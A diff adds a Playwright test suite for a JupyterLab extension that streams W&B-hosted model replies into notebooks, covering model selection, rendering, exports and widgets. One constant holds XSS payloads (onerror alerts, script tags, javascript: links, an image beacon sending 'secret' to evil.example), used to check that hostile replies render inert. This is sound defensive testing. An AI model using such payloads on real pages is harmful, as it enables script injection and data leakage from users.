@@ -1,0 +1,386 @@
+"""JupyterLab in headless Chromium, speaking to W&B's hosts as the tests play them: what a person sees and does."""
+
+from __future__ import annotations
+
+import os
+import re
+from pathlib import Path
+from threading import Event
+
+import nbformat
+import pytest
+from browser import JupyterServer, Lab, Watch, keep_picture
+from known_models import MODELS
+from nbclient import NotebookClient
+from nbconvert import HTMLExporter
+from playwright.sync_api import Page, expect
+from service import Answer, Streamed, Wandb, completion, pieces, refused, usage
+
+from wandb_inference_magic.messages.thread import Thread, Turn
+from wandb_inference_magic.rendering.thread_file import export
+
+pytestmark = pytest.mark.browser
+
+PICTURES = Path(__file__).parent.parent.parent / "examples"
+
+ANSWER = """\
+The **median** of a sample is its middle value: half of the data lie below it.
+
+- It is *robust*: an outlier hardly moves it.
+- For an even $n$ it is \\((x_{n/2} + x_{n/2+1})/2\\) of the sorted values.
+
+```python
+df["price"].median()
+```
+
+| statistic | moved by one outlier |
+|---|---|
+| mean | by as much as it likes |
+| median | hardly |
+"""
+
+
+def test_load_pick_with_mouse_and_keyboard_and_chat(server: JupyterServer, world: Wandb, page: Page, path: str) -> None:
+    """The main job: the request that reaches the service names the model that was chosen."""
+    world.api.always = Streamed(pieces(ANSWER), per_second=40, counted=usage(31, 118))
+    lab = Lab.open(
+        server,
+        page,
+        f"main-job-{path[:3]}.ipynb",
+        ["%load_ext wandb_inference_magic", "%wbmodels", "%%wbchat -t 0.2\nWhat is a median, and why use it?"],
+        path=path,
+    )
+    lab.run(0)
+    expect(lab.output(0)).to_have_count(0)
+    lab.run(1)
+    picker = lab.output(1)
+    dropdown = picker.get_by_role("combobox", name="Model")
+    search = picker.get_by_role("textbox", name="Search")
+    expect(dropdown).to_have_value(re.compile("openai/gpt-oss-20b"))
+
+    # With the mouse: the facts beside it follow.
+    dropdown.select_option("zai-org/GLM-5.3-Flash")
+    expect(picker).to_contain_text("1.0M")
+    expect(picker).to_contain_text("text, image")
+    lab.run(2)
+    assert world.api.last.body["model"] == "zai-org/GLM-5.3-Flash"
+
+    # With the keyboard alone: search, Tab to the dropdown, open it, go down, choose.
+    search.focus()
+    expect(dropdown.locator("option")).to_have_count(4)
+    page.keyboard.type("llama")
+    # What matches, and the one in force.
+    expect(dropdown.locator("option")).to_have_text(["zai-org/GLM-5.3-Flash", "meta-llama/Llama-3.1-8B-Instruct"])
+    page.keyboard.press("Tab")
+    expect(dropdown).to_be_focused()
+    page.keyboard.press("Space")
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("Enter")
+    expect(picker).to_contain_text("131k")
+    lab.run(2)
+    assert world.api.last.body["model"] == "meta-llama/Llama-3.1-8B-Instruct"
+
+    # Changed any other way, the setting moves the dropdown.
+    search.fill("")
+    lab.cell(2).locator(".cm-content").click()
+    page.keyboard.press("Control+a")
+    page.keyboard.type("%wbconfig --model Qwen/Qwen3.8-27B")
+    lab.run(2)
+    expect(dropdown).to_have_value(re.compile("Qwen/Qwen3.8-27B"))
+
+
+def test_the_reply_grows_and_ends_tidy(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """The text grows while it streams; in the end it is rendered whole, once, with its footer."""
+    gate = Event()
+    script = Streamed(
+        pieces(ANSWER), gate=gate, hold_after=12, counted=usage(31, 118), reasoning=["Simple words. ", "An example."]
+    )
+    world.api.then(script)
+    lab = Lab.open(
+        server,
+        page,
+        "streaming.ipynb",
+        ["%load_ext wandb_inference_magic", "%wbmodels", "%%wbchat -t 0.2\nWhat is a median, and why use it?"],
+    )
+    lab.run(0)
+    lab.run(1)
+    expect(lab.output(1).get_by_role("combobox", name="Model")).to_be_visible()
+    lab.run(2, wait=False)
+    output = lab.cell(2).locator(".jp-OutputArea")
+    expect(output).to_contain_text("The median of a sample is its middle value")
+    assert not script.sent_last.is_set()
+    gate.set()
+    lab.wait_until_run(2)
+    expect(lab.output(2)).to_have_count(1)
+    rendered = lab.output(2)
+    expect(rendered.locator("strong")).to_have_text("median")
+    expect(rendered.locator("li")).to_have_count(2)
+    expect(rendered.locator("table td").first).to_have_text("mean")
+    expect(rendered.locator("pre")).to_contain_text('df["price"].median()')
+    expect(rendered.locator("mjx-container")).to_have_count(2)
+    expect(rendered).to_contain_text("31 + 118 tokens")
+    expect(rendered).to_contain_text("turn 1")
+    reasoning = rendered.locator("details")
+    expect(reasoning).not_to_have_attribute("open", re.compile(".*"))
+    reasoning.locator("summary").click()
+    expect(reasoning).to_contain_text("Simple words.")
+    reasoning.locator("summary").click()
+
+    saved = lab.save()
+    (saved_output,) = saved["cells"][2]["outputs"]
+    assert set(saved_output["data"]) == {"text/markdown", "text/plain"}
+    _take_picture(lab, "wbchat.png", first=0, last=2)
+
+
+def _take_picture(lab: Lab, name: str, *, first: int, last: int) -> None:
+    """Take a picture for the README of some cells, when asked to; otherwise only see that it can be taken."""
+    target = (PICTURES if os.environ.get("WRITE_PICTURES") else lab.server.folder) / name
+    page = lab.page
+    page.set_viewport_size({"width": 1000, "height": 1300})
+    page.keyboard.press("Control+b")
+    page.locator(".jp-NotebookPanel-toolbar").click()
+    box, end = lab.cell(first).bounding_box(), lab.cell(last).bounding_box()
+    assert box is not None
+    assert end is not None
+    clip = {"x": box["x"], "y": box["y"], "width": box["width"], "height": end["y"] + end["height"] - box["y"]}
+    page.screenshot(path=target, clip=clip)
+    assert target.stat().st_size > 10_000
+
+
+def test_maths_is_maths_and_money_is_money(server: JupyterServer, world: Wandb, page: Page) -> None:
+    world.api.always = Streamed(
+        pieces(
+            "It costs $5 and $6, or `$7` and `$8`.\n\nThe sum \\(a_1 + b_1\\) and\n\n\\[\nx\n+ y < z\n\\]\n\nis it."
+        ),
+        per_second=200,
+    )
+    lab = Lab.open(server, page, "maths.ipynb", ["%load_ext wandb_inference_magic", "%%wbchat\nhi"])
+    lab.run(0)
+    lab.run(1)
+    rendered = lab.output(1)
+    expect(rendered.locator("mjx-container")).to_have_count(2)
+    expect(rendered.locator("mjx-merror")).to_have_count(0)
+    expect(rendered).to_contain_text("It costs $5 and $6, or $7 and $8.")
+    assert rendered.locator("ul").count() == 0
+
+
+HOSTILE = (
+    'Hello <img src="http://evil.example/a.png" onerror="alert(1)"> <script>alert(2)</script>\n\n'
+    "![pixel](http://evil.example/b.png?data=secret) [click](javascript:alert(3)) ![ref][r]\n\n"
+    "[r]: http://evil.example/c.png\n\n<iframe src='http://evil.example/d'></iframe>\n\n"
+    "| a |\n|---|\n| ![x](http://evil.example/e.png) | <img src=http://evil.example/e2>\n\n"
+    "```mermaid\ngraph TD; A-->B\n```\n\n</details> $x<img src=http://evil.example/f>$\n\n"
+    "    <img src=http://evil.example/h>\n\n[![x](http://evil.example/i)](http://ok.example)"
+)
+
+
+def hostile_stream() -> Streamed:
+    return Streamed(
+        pieces(HOSTILE),
+        per_second=100,
+        reasoning=["</details><img src=http://evil.example/g>", " ```"],
+        model="<img src=http://evil.example/m onerror=alert(4)>",
+    )
+
+
+def test_a_hostile_reply_is_inert(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """No request leaves for another host, no dialog opens, no script runs, in a trusted, running notebook."""
+    world.api.always = hostile_stream()
+    watch = Watch(page)
+    cells = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbchat this fails"]
+    lab = Lab.open(server, page, "hostile.ipynb", cells)
+    lab.run(0)
+    lab.run(1)
+    lab.run(2)
+    world.api.then(refused(400, HOSTILE))
+    lab.run(3)
+    for number in (1, 2):
+        rendered = lab.output(number)
+        expect(rendered).to_contain_text("Hello <img src=")
+        expect(rendered).to_contain_text("image: pixel (evil.example)")
+        assert rendered.locator("img, script, iframe").count() == 0
+        assert rendered.locator("a[href^='javascript']").count() == 0
+        # The footer stands outside what the reply could open.
+        expect(rendered.locator("small").last).to_contain_text("tokens")
+        assert rendered.locator("details small").count() == 0
+    expect(lab.output(3)).to_contain_text("did not accept the request")
+    assert lab.output(3).locator("img, script, iframe").count() == 0
+    watch.assert_nothing()
+
+
+def test_a_hostile_reply_is_inert_in_an_exported_page(
+    world: Wandb, page: Page, environment: dict[str, str], tmp_path: Path
+) -> None:
+    """nbconvert's page has a Markdown parser of its own and does not sanitise."""
+    world.api.always = hostile_stream()
+    sources = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbmodels --table"]
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in sources])
+    NotebookClient(notebook, timeout=120, resources={"metadata": {"path": str(tmp_path)}}).execute(
+        env=environment | world.environment | {"WANDB_API_KEY": "a-key"}
+    )
+    html, _ = HTMLExporter().from_notebook_node(notebook)
+    exported = tmp_path / "exported.html"
+    exported.write_text(html, encoding="utf-8")
+    watch = Watch(page)
+    page.goto(exported.as_uri(), wait_until="domcontentloaded")
+    outputs = page.locator(".jp-OutputArea-output")
+    expect(outputs.first).to_contain_text("Hello <img src=")
+    assert outputs.locator("img, script, iframe").count() == 0
+    assert outputs.locator("a[href^='javascript']").count() == 0
+    watch.assert_nothing()
+
+
+def test_a_conversation_exported_as_a_page_asks_nobody_for_anything(page: Page, tmp_path: Path) -> None:
+    hostile = Turn(HOSTILE, HOSTILE, system=HOSTILE)
+    plain = Turn("What is a median?", ANSWER)
+    file = export(Thread("<b>talk</b>", [hostile, plain], system=HOSTILE), str(tmp_path / "talk.html"))
+    watch = Watch(page)
+    page.goto(file.as_uri())
+    assert [url for url in watch.requests if not url.startswith("file:")] == []
+    watch.assert_nothing()
+    expect(page.locator("h1")).to_have_text("<b>talk</b>")
+    assert page.locator("img, script, iframe").count() == 0
+    assert page.locator("a[href^='javascript']").count() == 0
+    expect(page.locator(".prompt").first).to_have_text(HOSTILE)
+    reply = page.locator(".reply").last
+    expect(reply.locator("strong").first).to_have_text("median")
+    expect(reply.locator("pre")).to_contain_text('df["price"].median()')
+    expect(reply.locator("td").first).to_have_text("mean")
+    keep_picture(page, "thread-page")
+
+
+def test_several_models_stand_side_by_side(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """Columns of the same height at the same place, each rendered as a reply of its own."""
+
+    def answer(one: Answer) -> None:
+        is_first = one.received.body["model"] == MODELS[0]
+        said = pieces(ANSWER if is_first else "It is the *middle* one.")
+        Streamed(said, per_second=60 if is_first else 20, counted=usage(31, 118 if is_first else 9))(one)
+
+    world.api.always = answer
+    lab = Lab.open(
+        server,
+        page,
+        "columns.ipynb",
+        ["%load_ext wandb_inference_magic", f"%%wbchat -m {MODELS[0]} -m {MODELS[1]}\nWhat is a median?"],
+    )
+    lab.run(0)
+    lab.run(1)
+    # The replies, and the chart of them.
+    expect(lab.output(1)).to_have_count(2)
+    expect(lab.output(1).nth(1).get_by_role("img")).to_be_visible()
+    columns = lab.output(1).first.locator("td[valign=top]")
+    expect(columns).to_have_count(2)
+    expect(columns.nth(0).locator("pre")).to_contain_text('df["price"].median()')
+    expect(columns.nth(0).locator("mjx-container")).not_to_have_count(0)
+    expect(columns.nth(1).locator("em")).to_have_text("middle")
+    left, right = (columns.nth(number).bounding_box() for number in (0, 1))
+    assert left is not None
+    assert right is not None
+    assert abs(left["y"] - right["y"]) < 2
+    assert left["x"] + left["width"] <= right["x"] + 2
+    words = columns.nth(1).locator("em").bounding_box()
+    assert words is not None
+    assert words["y"] - right["y"] < 40, "a short reply begins at the top"
+    _take_picture(lab, "compare.png", first=1, last=1)
+
+
+def test_code_comes_into_the_next_cell_and_is_not_run(
+    server: JupyterServer, world: Wandb, page: Page, path: str
+) -> None:
+    world.api.always = Streamed(["So:\n\n```python\nmedian = 3\n```\n"])
+    lab = Lab.open(
+        server,
+        page,
+        f"code-{path[:3]}.ipynb",
+        ["%load_ext wandb_inference_magic", "%%wbchat --code\nA median, please.", "1 + 1"],
+        path=path,
+    )
+    lab.run(0)
+    lab.run(1)
+    expect(page.locator(".jp-Notebook .jp-Cell")).to_have_count(4)
+    expect(lab.cell(2).locator(".cm-content")).to_have_text("median = 3")
+    expect(lab.cell(2).locator(".jp-InputPrompt")).to_have_text("[ ]:")
+    expect(lab.cell(3).locator(".cm-content")).to_have_text("1 + 1")
+
+
+def test_the_tab_key_completes_an_option_and_a_model(
+    server: JupyterServer, world: Wandb, page: Page, path: str
+) -> None:
+    cells = ["%load_ext wandb_inference_magic\n%wbmodels --table", "%%wbchat"]
+    lab = Lab.open(server, page, f"tab-{path[:3]}.ipynb", cells, path=path)
+    lab.run(0)
+    editor = lab.cell(1).locator(".cm-content")
+    editor.click()
+    page.keyboard.press("End")
+    line = "%%wbchat"
+    for typed, offered in ((" --temperat", "--temperature"), (" 0 -m glm", MODELS[3])):
+        page.keyboard.type(typed)
+        # Until then the key indents.
+        expect(lab.cell(1).locator(".jp-mod-completer-enabled")).not_to_have_count(0)
+        page.keyboard.press("Tab")
+        expect(page.locator(".jp-Completer-item")).to_contain_text(offered)
+        page.keyboard.press("Enter")
+        line = f"{(line + typed).rpartition(' ')[0]} {offered}"
+        expect(editor).to_have_text(line)
+
+
+BUTTON = """\
+import ipywidgets
+button, output = ipywidgets.Button(description='Ask'), ipywidgets.Output()
+@output.capture()
+def clicked(button):
+    print('Asking')
+    get_ipython().run_line_magic('wbchat', '--once -m openai/gpt-oss-20b Hi')
+button.on_click(clicked)
+ipywidgets.VBox([button, output])"""
+
+
+def test_a_button_of_ones_own_asks_into_an_output_widget(
+    server: JupyterServer, world: Wandb, page: Page, path: str
+) -> None:
+    gate = Event()
+    first = Streamed(["# First\n\n", "Some **words**", " and the rest."], gate=gate, hold_after=2)
+    world.api.then(first, Streamed(["The second", " reply."]))
+    lab = Lab.open(server, page, f"button-{path[:3]}.ipynb", ["%load_ext wandb_inference_magic", BUTTON], path=path)
+    lab.run(0)
+    lab.run(1)
+    shown = lab.output(1).first
+    ask = shown.get_by_role("button", name="Ask")
+    ask.click()
+    expect(shown.locator("strong")).to_have_text("words")
+    gate.set()
+    expect(shown).to_contain_text("Some words and the rest.")
+    expect(shown).to_contain_text("12 + 3 tokens")
+    ask.click()
+    expect(shown).to_contain_text("The second reply.")
+    expect(shown.get_by_text("12 + 3 tokens")).to_have_count(2)
+    expect(shown.get_by_text("Asking")).to_have_count(2)
+    expect(shown.locator("h1")).to_have_count(1)
+
+
+def test_a_map_shows_how_far_it_is_and_ends_tidy(server: JupyterServer, world: Wandb, page: Page, path: str) -> None:
+    gate = Event()
+
+    def answer(one: Answer) -> None:
+        number = int(one.received.body["messages"][-1]["content"].split()[1])
+        if number >= 30:
+            assert gate.wait(120)
+        completion(f"Answer {number} with $5 and $6, <b>not bold</b>.", counted=usage(40, 12))(one)
+
+    world.api.always = answer
+    cells = ["%load_ext wandb_inference_magic\nrows = list(range(60))", "%%wbmap rows --no-cache\nrow {{ text }}"]
+    lab = Lab.open(server, page, f"map-{path[:3]}.ipynb", cells, path=path)
+    lab.run(0)
+    lab.run(1, wait=False)
+    area = lab.cell(1).locator(".jp-OutputArea")
+    expect(area.get_by_text("30/60")).to_be_visible()
+    expect(area).to_contain_text("Answer 0 with $5 and $6, <b>not bold</b>.")
+    keep_picture(page, f"map-{path[:3]}-running")
+    gate.set()
+    lab.wait_until_run(1)
+    expect(lab.output(1)).to_have_count(1)
+    expect(lab.output(1)).to_contain_text("60 of 60 rows answered, in _wbmap · 2,400 + 720 tokens")
+    expect(lab.output(1).locator("mjx-container")).to_have_count(0)
+    expect(area.get_by_text("/60 [")).to_have_count(0)
+    keep_picture(page, f"map-{path[:3]}-done")
